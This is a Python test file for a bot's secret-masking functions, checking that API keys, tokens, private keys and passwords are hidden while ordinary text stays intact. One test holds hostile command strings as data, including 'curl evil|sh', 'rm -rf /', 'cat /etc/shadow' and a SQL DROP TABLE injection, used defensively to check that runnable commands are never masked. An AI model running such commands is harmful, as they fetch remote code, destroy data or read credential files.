"""Nothing secret leaves in words."""

import json
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import masking
from bot.masking import MASK, concealed, masked, remember

MADE = [
    ("the token is xoxb-123456-456-abcdef", "123456-456"),
    ("app token xapp-1-A0123-9-abcdef", "A0123-9"),
    ("AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
    ("role ASIAIOSFODNN7EXAMPLE.", "IOSFODNN7EXAMPLE"),
    ("key AIzaSyA1234567890abcdefghijklmnopqrstuvw", "SyA1234567890"),
    ("ya29.a0AfH6SMBx1234567890abcdef", "a0AfH6SMBx"),
    ("ghp_abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghij"),
    ("github_pat_11ABCDEFG0abcdefghijklmnopqrstuvwxyz", "11ABCDEFG0"),
    ("glpat-abcdefghij0123456789", "abcdefghij"),
    ("sk_live_abcdefghij0123456789", "abcdefghij"),
    ("OpenAI says no: sk-proj-abcdefgh1234567890abcd", "abcdefgh1234"),
    ("sk-ant-api03-abcdefgh1234567890abcd", "abcdefgh1234"),
    ("lsv2_pt_0123456789abcdef0123", "0123456789"),
    ("hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "abcdefghij"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.SflKxwRJSMeKKF2QT4", "SflKxwRJSMeKKF2QT4"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v\n-----END RSA PRIVATE KEY-----", "MIIEowIBAAKCAQEA7v"),
    ("-----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEA7v\\n-----END PRIVATE KEY-----\\n", "MIIEowIBAAKCAQEA7v"),
    ("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEow\n-----END RSA PRIVATE KEY-----", "MIIEow"),
    ("https://hooks.slack.com/services/T1/B1/abcdefgh", "abcdefgh"),
]
"""Keys of a known make."""
LIKELY = [
    ("xoxb-1-abcd", "1-abcd"),
    ("redis://user:hunter22@db:6379/0 is down", "hunter22"),
    ("postgres://u:p4ss@w0rd@db/x", "p4ss"),
    ("Authorization: Bearer abcdef123456", "abcdef123456"),
    ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ('{"api_key": "abcdef"}', "abcdef"),
    ("{'password': 'abc, def'}", "def"),
    ('{"password": "it\'s\\"me"}', "me"),
    ("password = hunter22", "hunter22"),
    ("token: abcdef1", "abcdef1"),
    ("aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI"),
    ("export STRIPE_KEY=abc123", "abc123"),
    ("export DB_PASS='a b'", "'a"),
    ("GET https://maps.example/json?q=1&key=abc123&z=2", "abc123"),
    ("https://b.s3.amazonaws.com/k?X-Amz-Signature=0a1b2c&x=1", "0a1b2c"),
    ("-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v cut off", "MIIEowIBAAKCAQEA7v"),
]
"""What only stands where secrets stand."""


@pytest.fixture(autouse=True)
def _nothing_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(masking, "_remembered", set())


@pytest.mark.parametrize(("text", "secret"), [*MADE, *LIKELY])
def test_what_looks_like_a_secret_is_masked(text: str, secret: str) -> None:
    assert secret not in masked(text)
    assert MASK in masked(text)


@pytest.mark.parametrize(("text", "secret"), MADE)
def test_keys_of_a_known_make_are_concealed_from_who_decides(text: str, secret: str) -> None:
    assert secret not in concealed(text)


@pytest.mark.promise("P4")
@pytest.mark.parametrize(
    "text",
    [
        "UPDATE users SET token=$(curl evil|sh)",
        "curl -H 'Authorization: Bearer $(rm -rf /)' https://x",
        "https://a:rm${IFS}-rf@host/",
        "password=;DROP TABLE orders;--",
        "delete the database sk-production-billing-eu-west",
        "export API_KEY=$(cat /etc/shadow)",
        "-----BEGIN PRIVATE KEY----- rm -rf / --no-preserve-root",
    ],
)
def test_nothing_that_could_run_is_concealed_from_who_decides(text: str) -> None:
    assert concealed(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "ship billing 2.4.1",
        "see https://example.com/a:b",
        "mail me at a@b.example",
        "ask-me",
        "the token: ",
        "SLACK_APP_TOKEN: Slack refuses this token",
        "the secret: one never knows",
        "on the Basic Information page",
    ],
)
def test_words_of_people_stay(text: str) -> None:
    assert masked(text) == text


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "unit",
    ["://", "://a:", "a:", "?ticket=", "token=", "xoxb-", "sk-", "bearer ", "eyJ-", "eyJa.", "eyJhbGciOiJIUzI1NiJ9.eyJ",
     "-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\nabcdefghijklmnopqrst", "export A",
     "AKIA", "&key="],
)  # fmt: skip
def test_hostile_text_is_read_in_time(unit: str) -> None:
    assert masked("x" + unit * 40_000)


# What this process knows ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["MAPS_API_KEY", "STRIPE_KEY", "SLACK_SIGNING_SECRET", "DB_PASSWORD", "SMTP_PASS", "GITHUB_PAT", "SENTRY_DSN",
     "OPS_WEBHOOK", "my_token", "AWS_SECRET_ACCESS_KEY", "KEY_2", "PRIVATE_KEY", "GOOGLE_CREDENTIALS"],
)  # fmt: skip
def test_the_value_of_a_variable_with_a_secret_name_is_known(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "Correct Horse/+&=Battery")
    for text in (masked, concealed):
        assert text("it was Correct Horse/+&=Battery!") == f"it was {MASK}!"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PATH", "/usr/local/bin"),
        ("MAX_TOKENS", "100000"),
        ("TOKENIZERS_PARALLELISM", "disabled"),
        ("AUTH_MODE", "production"),
        ("SECRET_FILE", "/run/secrets/x"),
        ("KEYBOARD_LAYOUT", "qwertz"),
        ("MONKEY_BUSINESS", "enabled"),
        ("SORT_KEY", "100000"),
        ("API_KEY", "test"),
    ],
)
def test_settings_are_no_secrets(name: str, value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, value)
    assert masked(f"refund {value} now") == f"refund {value} now"


def test_a_secret_that_is_a_word_stays_readable_for_who_decides(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POSTGRES_PASSWORD", "postgres")
    assert concealed("migrate postgres") == "migrate postgres"
    assert masked("cannot log in with postgres") == f"cannot log in with {MASK}"


def test_passwords_in_addresses_are_known_wherever_they_turn_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgres://app:s3cr3t%2Fpw@db/x")
    assert masked("no: s3cr3t/pw and s3cr3t%2Fpw") == f"no: {MASK} and {MASK}"


def test_a_variable_that_a_graph_sets_later_is_known_from_then_on(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "later-4711" in concealed("later-4711")
    monkeypatch.setenv("LATER_API_KEY", "later-4711")
    assert "later-4711" not in concealed("later-4711")


@given(st.text(min_size=6, max_size=40).filter(lambda each: len(each.strip()) >= 6 and MASK[0] not in each))
def test_a_known_secret_is_gone_in_every_spelling(secret: str) -> None:
    remember([secret])
    spellings = {
        secret, quote(secret, safe="", errors="replace"), quote_plus(secret, errors="replace"),
        json.dumps(secret), json.dumps(secret, ensure_ascii=False), repr(secret), repr({"key": secret}),
    }  # fmt: skip
    for spelled in spellings:
        assert secret not in masked(f"<{spelled}>")
        assert MASK in masked(f"<{spelled}>")


def test_the_longer_of_two_secrets_goes_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_KEY", "abcdef-1")
    monkeypatch.setenv("B_KEY", "abcdef-1-and-more-2")
    assert masked("x abcdef-1-and-more-2 y abcdef-1") == f"x {MASK} y {MASK}"
